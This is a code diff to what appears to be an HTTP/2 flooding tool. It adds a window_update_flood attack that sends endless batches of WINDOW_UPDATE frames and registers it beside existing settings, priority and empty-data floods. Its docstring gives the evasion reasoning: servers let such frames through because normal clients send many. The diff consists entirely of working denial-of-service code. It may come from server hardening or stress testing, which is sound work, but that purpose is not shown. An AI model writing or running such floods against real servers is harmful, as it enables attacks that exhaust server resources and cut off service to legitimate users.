@@ -28,6 +28,7 @@ from hyperframe.frame import (
     PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
+    WindowUpdateFrame,
 )
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -246,6 +247,16 @@ def settings_flood(conn, args):
     flood(conn, batch, args)
 
 
+def window_update_flood(conn, args):
+    """WINDOW_UPDATE frames on the connection, increment 1: legitimate clients send many,
+    so the server lets them through (each is a counter update in h2, no reply)."""
+
+    def batch(_sent):
+        return [WindowUpdateFrame(0, window_increment=1) for _ in range(100)]
+
+    flood(conn, batch, args)
+
+
 def empty_data_flood(conn, args):
     """One request, then DATA frames with nothing in them that never end the stream."""
     conn.send([HeadersFrame(1, conn.request_headers(1), flags=["END_HEADERS"])])
@@ -339,6 +350,7 @@ ATTACKS = {
     "settings_flood": settings_flood,
     "priority_flood": priority_flood,
     "empty_data_flood": empty_data_flood,
+    "window_update_flood": window_update_flood,
     "max_streams": max_streams,
 }
 
